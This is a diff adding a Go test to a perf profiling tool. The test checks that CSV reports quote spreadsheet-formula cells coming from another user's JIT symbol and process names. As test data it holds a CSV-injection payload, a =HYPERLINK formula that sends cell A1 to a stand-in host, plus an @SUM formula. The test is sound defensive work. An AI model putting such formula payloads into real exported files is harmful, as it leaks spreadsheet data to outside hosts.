@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"fmt"
 	"os"
 	"os/exec"
@@ -271,5 +272,49 @@ func TestInputAttack(t *testing.T) {
 	perftest.Run(t, "sh", "-c", perftest.Perf(t)+` record -q -o - -- sh -c 'i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done' >`+mine)
 	if err := report.Wait(); err != nil || !strings.Contains(out.String(), " sh\n") {
 		t.Errorf("report -i of root's FIFO: %v\n%s\n%s", err, out.String(), errOut.String())
+	}
+}
+
+// TestCSVFormulas: a user's JIT names its code and itself what a
+// spreadsheet takes for formulas; root's report --format csv must keep
+// every such cell text, prefixed with a quote as OWASP advises.
+func TestCSVFormulas(t *testing.T) {
+	needRoot(t, "the JIT is another user's, its names their choice")
+	perftest.Perf(t)
+	gcc := perftest.Need(t, "gcc")
+	uid, gid := testUser(t)
+	jitprof := buildJitprof(t, t.TempDir())
+	const name = `=HYPERLINK("http://example.invalid/?"&A1,"open")`
+	src := strings.Replace(perftest.AnonJITSource, "jit_spin", strings.ReplaceAll(name, `"`, `\"`), 1)
+	src = strings.Replace(src, "#include <stdio.h>", "#include <stdio.h>\n#include <sys/prctl.h>", 1)
+	src = strings.Replace(src, "double secs = ", `prctl(PR_SET_NAME, "@SUM(1+1)", 0, 0, 0);
+	double secs = `, 1)
+	dir := filepath.Dir(t.TempDir())
+	os.Chmod(dir, 0o755)
+	c, jit := filepath.Join(dir, "formula.c"), filepath.Join(dir, "formula")
+	os.WriteFile(c, []byte(src), 0o644)
+	perftest.Run(t, gcc, "-O1", "-o", jit, c)
+	data := filepath.Join(t.TempDir(), "perf.data")
+	out := perftest.Run(t, jitprof, "record", "-q", "-o", data, "--", perftest.Need(t, "setpriv"), "--reuid", strconv.Itoa(uid), "--regid", strconv.Itoa(gid), "--clear-groups", "--", jit, "1", "map")
+	var pid int
+	fmt.Sscanf(out, "ready %d", &pid)
+	t.Cleanup(func() { os.Remove(fmt.Sprintf("/tmp/perf-%d.map", pid)) })
+	text := perftest.Run(t, jitprof, "report", "-i", data, "--anon-samples", "--format", "csv", "--sort", "comm,sym")
+	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil {
+		t.Fatalf("the CSV does not parse: %v\n%s", err, text)
+	}
+	var named, comm bool
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && cell != "-" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+				t.Errorf("cell %q is a formula", cell)
+			}
+			named = named || cell == "'"+name
+			comm = comm || cell == "'@SUM(1+1)"
+		}
+	}
+	if !named || !comm {
+		t.Errorf("the CSV lacks the JIT's name or its command, quoted:\n%s", text)
 	}
 }
